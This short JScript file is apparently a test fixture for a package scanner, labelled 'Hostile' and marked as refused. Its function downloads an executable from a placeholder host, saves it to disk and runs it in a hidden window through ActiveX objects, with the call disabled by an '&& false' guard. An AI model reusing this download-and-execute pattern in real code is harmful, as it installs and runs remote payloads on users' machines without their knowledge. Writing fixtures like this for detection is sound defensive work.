// Hostile: a script for Windows that fetches a program, saves it and starts it.
// Families: child-process, network, filesystem. As a package: refused.
function fetchAndStart() {
  const shell = new ActiveXObject('WScript.Shell');
  const request = new ActiveXObject('MSXML2.XMLHTTP');
  request.open('GET', 'https://files.example.invalid/a.exe', false);
  request.send();
  const stream = new ActiveXObject('ADODB.Stream');
  stream.Type = 1;
  stream.Write(request.responseBody);
  stream.SaveToFile('a.exe', 2);
  shell.Run('a.exe', 0, false);
}
if (typeof ActiveXObject !== 'undefined' && false) fetchAndStart();
